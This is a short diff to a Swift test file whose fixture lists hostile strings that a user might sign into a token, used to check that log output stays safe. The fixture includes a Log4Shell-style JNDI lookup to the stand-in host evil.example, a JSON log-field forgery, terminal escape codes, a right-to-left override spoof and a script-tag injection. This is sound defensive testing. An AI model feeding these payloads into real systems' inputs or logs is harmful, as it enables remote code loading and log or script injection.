@@ -8,7 +8,7 @@ import Timestamps
 struct TokenLogTests {
     /// What a stranger with a Google account of his own could have signed into his token.
     static let hostile = [
-        "a\"b\\c\nd\r\u{0}e\u{1B}[2Jf\u{7F}\u{85}\u{2028}g@x", #"x","severity":"ERROR","event":"push.forged"#,
+        "a\"b\\c\nd\re\u{1B}[2Jf\u{7F}\u{85}\u{2028}g@x", #"x","severity":"ERROR","event":"push.forged"#,
         "${jndi:ldap://evil.example/}", "\u{202E}moc.elgoog", "<script>alert(1)</script>",
         String(repeating: "long", count: 300),
     ]
